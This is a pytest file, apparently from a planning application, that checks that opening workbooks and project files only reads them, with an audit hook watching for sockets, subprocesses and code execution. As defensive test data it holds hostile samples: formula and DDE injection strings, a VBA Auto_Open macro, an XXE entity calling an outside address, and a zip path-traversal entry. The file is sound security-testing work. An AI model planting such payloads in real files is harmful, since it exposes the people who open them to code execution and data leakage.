"""Claims that opening a file does nothing but read it: no code of its runs, nothing is started, nobody is called."""

from __future__ import annotations

import sys
import zipfile
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from pathlib import Path

import openpyxl
import pytest

from planner.errors import UserError
from planner.store.project import Project, load, save
from planner.store.workbook_in import read_workbook
from planner.store.workbook_out import write_case
from planner.tables.case import Case
from tests.architecture.tree import ROOT
from tests.builders import case

WATCHED = (
    "socket.",
    "subprocess.",
    "os.exec",
    "os.fork",
    "os.posix_spawn",
    "os.spawn",
    "os.startfile",
    "os.system",
    "pty.spawn",
    "webbrowser.",
    "urllib.",
    "ftplib.",
    "http.",
    "smtplib.",
    "pickle.find_class",
    "marshal.loads",
    "ctypes.",
    "import",
    "exec",
    "compile",
    "sqlite3.enable_load_extension",
    "sqlite3.load_extension",
)
FORMULAS = (
    '=WEBSERVICE("http://192.0.2.1/"&A1)',
    '=HYPERLINK("http://192.0.2.1/","click")',
    "=cmd|'/c calc'!A0",
    "='http://192.0.2.1/[book.xlsx]Sheet'!A1",
    "__import__('os').system('true')",
    "{{7*7}}",
)

_seen: list[str] = []
_watching = False


def _notice(event: str, arguments: tuple[object, ...]) -> None:
    if _watching and event.startswith(WATCHED):
        _seen.append(f"{event} {arguments!r}"[:300])


@pytest.fixture(scope="module", autouse=True)
def hook() -> None:
    """Python tells whom it asks for a socket, a process, a module or code to run; such a hook stays for good."""
    sys.addaudithook(_notice)


@contextmanager
def watched() -> Iterator[list[str]]:
    global _watching  # noqa: PLW0603 - the hook has no other way to be switched off
    _seen.clear()
    _watching = True
    try:
        yield _seen
    finally:
        _watching = False


def plain() -> Case:
    return case(
        products=[{"product": "Drive", "shortage_cost": 100}],
        demand={"Drive": [10, 10]},
        bill_of_materials=[{"parent": "Drive", "component": "Magnet", "quantity": 1}],
        items=[{"item": "Magnet", "standard_cost": 1}],
    )


def open_it(path: Path) -> None:
    with suppress(UserError):  # refused is fine; only what it does on the way counts
        read_workbook(path)


@pytest.fixture(scope="module", autouse=True)
def loaded(hook: None, tmp_path_factory: pytest.TempPathFactory) -> None:
    """Our own modules load when first needed: not the file's doing."""
    folder = tmp_path_factory.mktemp("loaded")
    write_case(plain(), folder / "case.xlsx")
    save(folder / "case.remanence", Project(plain()))
    wrong = folder / "wrong.xlsx"
    wrong.write_bytes(b"PK nonsense")
    for path in (folder / "case.xlsx", wrong):
        open_it(path)
    load(folder / "case.remanence")


def test_the_watch_notices_what_it_should() -> None:
    with watched() as seen:
        eval("1 + 1")  # the point of this line is to be noticed
    assert seen


@pytest.mark.parametrize(
    "path", sorted((ROOT / "tests" / "golden" / "cases").glob("*.xlsx")), ids=lambda path: path.stem
)
def test_opening_a_workbook_only_reads_it(path: Path) -> None:
    with watched() as seen:
        open_it(path)
    assert seen == []


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_cell_that_asks_for_the_world_is_only_text(tmp_path: Path, formula: str) -> None:
    path = tmp_path / "case.xlsx"
    write_case(plain(), path)
    book = openpyxl.load_workbook(path)
    book["Items"]["A2"] = formula
    book["Products"]["B2"] = formula
    book.save(path)
    with watched() as seen:
        open_it(path)
    assert seen == []


@pytest.mark.parametrize(
    ("part", "content"),
    [
        ("xl/vbaProject.bin", b'Attribute VB_Name = "ThisWorkbook"\nSub Auto_Open()\nShell "true"\nEnd Sub'),
        ("xl/externalLinks/externalLink1.xml", b"<externalLink/>"),
        ("xl/connections.xml", b'<connections><connection url="http://192.0.2.1/"/></connections>'),
        ("xl/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0"),
        ("customXml/item1.xml", b'<!DOCTYPE a [<!ENTITY b SYSTEM "http://192.0.2.1/">]><a>&b;</a>'),
        ("../../outside.txt", b"outside"),
    ],
)
def test_a_part_that_would_act_is_left_alone(tmp_path: Path, part: str, content: bytes) -> None:
    folder = tmp_path / "deep" / "deeper"
    folder.mkdir(parents=True)
    path = folder / "case.xlsx"
    write_case(plain(), path)
    with zipfile.ZipFile(path, "a") as archive:
        archive.writestr(part, content)
    before = sorted(tmp_path.rglob("*"))
    with watched() as seen:
        open_it(path)
    assert seen == []
    assert sorted(tmp_path.rglob("*")) == before


def test_opening_a_project_only_reads_it(tmp_path: Path) -> None:
    path = tmp_path / "case.remanence"
    save(path, Project(plain(), notes={"mapping": "__import__('os').system('true')"}))
    with watched() as seen:
        load(path)
    assert seen == []
